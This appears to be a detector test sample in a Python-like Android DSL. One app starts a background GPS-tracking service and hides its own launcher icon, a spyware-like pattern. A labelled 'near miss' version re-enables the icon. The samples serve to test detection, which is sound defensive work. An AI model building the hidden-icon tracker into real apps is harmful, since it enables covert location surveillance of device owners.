permissions("INTERNET", "ACCESS_FINE_LOCATION")

@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        self.startService(Intent(self, Work))
        name = ComponentName(self, Main)
        self.getPackageManager().setComponentEnabledSetting(name, 2, 1)

@service
class Work(Service, LocationListener):
    def onStartCommand(self, intent, flags, number):
        manager = cast(LocationManager, self.getSystemService("location"))
        manager.requestLocationUpdates("gps", 1000, 1, self)
        return 1
    def onLocationChanged(self, place):
        pass

# near miss: switches its component back on
@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        self.startService(Intent(self, Work))
        name = ComponentName(self, Main)
        self.getPackageManager().setComponentEnabledSetting(name, 1, 1)
